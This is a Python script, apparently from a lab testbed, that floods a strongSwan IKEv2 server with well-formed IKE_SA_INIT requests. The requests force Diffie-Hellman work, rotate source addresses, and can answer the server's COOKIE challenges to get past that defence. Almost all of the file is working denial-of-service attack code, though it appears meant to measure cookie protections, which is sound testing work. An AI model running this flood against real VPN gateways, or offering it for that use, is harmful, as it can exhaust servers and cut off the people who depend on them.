"""An IKE_SA_INIT flood, run inside an attacker container (standard library only).

Each request is well-formed enough for charon to parse and act on: a new random initiator
SPI, one IKE proposal the server accepts (aes256-sha256-prfsha256-curve25519), a KE payload
with 32 random bytes (a valid X25519 public value, so the server does the DH work) and a
nonce. The flood never sends IKE_AUTH and never answers a COOKIE notify: it is the attacker
that cookies are meant to stop. It sends from each ``--source`` address in turn, at
``--rate`` packets per second for ``--duration`` seconds, counts what comes back and prints
one JSON object.

    python3 ike_flood.py --server 192.0.2.2 --source 192.0.2.50 --rate 500 --duration 10
"""

from __future__ import annotations

import argparse
import json
import os
import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Iterator, Sequence

IKE_PORT = 500
# SPIi, SPIr, next payload, version, exchange type, flags, message ID, length
HEADER = struct.Struct("!8s8sBBBBII")
GENERIC = struct.Struct("!BBH")  # next payload, critical bit, payload length
IKE_HEADER_LEN = HEADER.size  # 28

VERSION_2 = 0x20
IKE_SA_INIT = 34
FLAG_INITIATOR = 0x08
FLAG_RESPONSE = 0x20

# Payload types (RFC 7296 3.2).
NO_NEXT = 0
SA = 33
KE = 34
NONCE = 40
NOTIFY = 41

# Transforms (type, ID) and their IDs (IANA IKEv2 registry).
ENCR, PRF, INTEG, DH = 1, 2, 3, 4
ENCR_AES_CBC = 12
PRF_HMAC_SHA2_256 = 5
AUTH_HMAC_SHA2_256_128 = 12
CURVE25519 = 31
KEY_LENGTH_ATTRIBUTE = 0x800E  # TV format (0x8000) | Key Length (14)

# Notify types seen in answers.
COOKIE = 16390
INVALID_KE_PAYLOAD = 17
NO_PROPOSAL_CHOSEN = 14

PROTOCOL_IKE = 1
MORE_TRANSFORMS = 3  # in a transform: 0 last, 3 more


def _payload(next_payload: int, body: bytes) -> bytes:
    return GENERIC.pack(next_payload, 0, GENERIC.size + len(body)) + body


def _transform(last: bool, kind: int, ident: int, attributes: bytes = b"") -> bytes:
    body = struct.pack("!BBH", kind, 0, ident) + attributes
    return struct.pack("!BBH", 0 if last else MORE_TRANSFORMS, 0, 4 + len(body)) + body


def sa_payload_body(group: int = CURVE25519) -> bytes:
    """One IKE proposal: AES-256-CBC, HMAC-SHA2-256, PRF-SHA2-256, ``group``."""
    transforms = [
        _transform(False, ENCR, ENCR_AES_CBC, struct.pack("!HH", KEY_LENGTH_ATTRIBUTE, 256)),
        _transform(False, PRF, PRF_HMAC_SHA2_256),
        _transform(False, INTEG, AUTH_HMAC_SHA2_256_128),
        _transform(True, DH, group),
    ]
    body = b"".join(transforms)
    # last proposal, reserved, length, number 1, protocol IKE, SPI size 0, transform count
    header = struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, PROTOCOL_IKE, 0, len(transforms))
    return header + body


def ike_sa_init(
    spi: bytes,
    public_value: bytes,
    nonce: bytes,
    group: int = CURVE25519,
    cookie: bytes = b"",
) -> bytes:
    """An IKE_SA_INIT request: header, SA, KE and Nonce payloads; with ``cookie``, the
    COOKIE notify the server asked for comes first (RFC 7296 2.6)."""
    if len(spi) != 8 or not any(spi):
        raise ValueError("the initiator SPI is 8 bytes and not zero")
    if not 16 <= len(nonce) <= 256:
        raise ValueError("a nonce is 16 to 256 bytes (RFC 7296 2.10)")
    payloads = (
        _payload(KE, sa_payload_body(group))
        + _payload(NONCE, struct.pack("!HH", group, 0) + public_value)
        + _payload(NO_NEXT, nonce)
    )
    first = SA
    if cookie:  # protocol 0, no SPI, the notify type, the server's data
        payloads = _payload(SA, struct.pack("!BBH", 0, 0, COOKIE) + cookie) + payloads
        first = NOTIFY
    length = IKE_HEADER_LEN + len(payloads)
    header = HEADER.pack(spi, bytes(8), first, VERSION_2, IKE_SA_INIT, FLAG_INITIATOR, 0, length)
    return header + payloads


def random_request(group: int = CURVE25519) -> bytes:
    return ike_sa_init(os.urandom(8), os.urandom(32), os.urandom(32), group)


def cookie_of(answer: bytes) -> tuple[bytes, bytes] | None:
    """(initiator SPI, cookie data) of an answer that asks for a cookie, else None."""
    if classify(answer) != "cookie":
        return None
    for kind, body in payloads(answer):
        if kind == NOTIFY and struct.unpack_from("!H", body, 2)[0] == COOKIE:
            return answer[:8], body[4:]
    return None


def payloads(message: bytes) -> Iterator[tuple[int, bytes]]:
    """(type, body) of each payload of an IKEv2 message, in order."""
    _, _, kind, _, _, _, _, length = HEADER.unpack_from(message)
    if length != len(message):
        raise ValueError(f"the header says {length} bytes, the message has {len(message)}")
    offset = IKE_HEADER_LEN
    while kind != NO_NEXT:
        following, _, size = GENERIC.unpack_from(message, offset)
        if size < GENERIC.size or offset + size > length:
            raise ValueError(f"payload {kind} at {offset} has a bad length {size}")
        yield kind, message[offset + GENERIC.size : offset + size]
        kind, offset = following, offset + size
    if offset != length:
        raise ValueError(f"{length - offset} bytes after the last payload")


def classify(answer: bytes) -> str:
    """What an answer to IKE_SA_INIT says: cookie, ike_sa_init, invalid_ke, ... or junk."""
    try:
        _, _, _, version, exchange, flags, _, _ = HEADER.unpack_from(answer)
        found = list(payloads(answer))
    except (struct.error, ValueError):
        return "junk"
    if version != VERSION_2 or exchange != IKE_SA_INIT or not flags & FLAG_RESPONSE:
        return "junk"
    for kind, body in found:
        if kind == NOTIFY and len(body) >= 4:
            notify = struct.unpack_from("!H", body, 2)[0]
            names = {
                COOKIE: "cookie",
                INVALID_KE_PAYLOAD: "invalid_ke",
                NO_PROPOSAL_CHOSEN: "no_proposal",
            }
            if notify in names:
                return names[notify]
    return "ike_sa_init" if any(kind == SA for kind, _ in found) else "other"


MAX_PENDING = 100_000  # requests kept to answer cookies for


def _with_cookie(request: bytes, cookie: bytes, group: int) -> bytes:
    """``request`` again, with the server's cookie (b"" if the request is unknown)."""
    if not request:
        return b""
    found = dict(payloads(request))
    public_value = found[KE][4:]
    return ike_sa_init(request[:8], public_value, found[NONCE], group, cookie)


def flood(
    server: str,
    sources: Sequence[str],
    rate: float,
    duration: float,
    *,
    port: int = IKE_PORT,
    group: int = CURVE25519,
    answer_cookies: bool = False,
) -> dict[str, object]:
    """Send IKE_SA_INITs to ``server`` from ``sources`` in turn; count the answers."""
    sockets = []
    selector = selectors.DefaultSelector()
    for index, source in enumerate(sources):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((source, 0))
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ, index)
        sockets.append(sock)
    answers: Counter[str] = Counter()
    sent_requests: dict[bytes, bytes] = {}  # initiator SPI -> request, to answer a cookie
    sent = errors = 0
    start = time.monotonic()
    end = start + duration
    while (now := time.monotonic()) < end:
        due = int((now - start) * rate) + 1
        while sent < due:
            try:
                request = random_request(group)
                if answer_cookies:
                    sent_requests[request[:8]] = request
                    while len(sent_requests) > MAX_PENDING:
                        sent_requests.pop(next(iter(sent_requests)))
                sockets[sent % len(sockets)].sendto(request, (server, port))
            except OSError:
                errors += 1
            sent += 1
        wait = max(0.0, min(start + sent / rate, end) - time.monotonic())
        for key, _ in selector.select(wait):
            sock = sockets[key.data]
            while True:
                try:
                    data = sock.recv(4096)
                except BlockingIOError:
                    break
                answers[classify(data)] += 1
                if answer_cookies and (asked := cookie_of(data)):
                    retry = _with_cookie(sent_requests.pop(asked[0], b""), asked[1], group)
                    if retry:
                        sock.sendto(retry, (server, port))
                        answers["cookies_answered"] += 1
    elapsed = time.monotonic() - start
    for sock in sockets:
        sock.close()
    return {
        "sent": sent,
        "send_errors": errors,
        "seconds": round(elapsed, 3),
        "rate": round(sent / elapsed, 1) if elapsed else 0.0,
        "sources": len(sources),
        "answers": dict(answers),
    }


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--server", required=True)
    parser.add_argument("--source", action="append", required=True, help="repeatable")
    parser.add_argument("--rate", type=float, default=500.0, help="packets per second")
    parser.add_argument("--duration", type=float, default=10.0, help="seconds")
    parser.add_argument("--port", type=int, default=IKE_PORT)
    parser.add_argument(
        "--group",
        type=int,
        default=CURVE25519,
        help="key exchange group offered (IANA number); one the server refuses (1, MODP-768) "
        "makes each request cheap for both sides: charon logs it and answers NO_PROPOSAL_CHOSEN",
    )
    parser.add_argument(
        "--answer-cookies",
        action="store_true",
        help="resend each request with the cookie the server asks for (an attacker that does "
        "not spoof its addresses)",
    )
    args = parser.parse_args(argv)
    result = flood(
        args.server,
        args.source,
        args.rate,
        args.duration,
        port=args.port,
        group=args.group,
        answer_cookies=args.answer_cookies,
    )
    print(json.dumps(result))


if __name__ == "__main__":
    main()
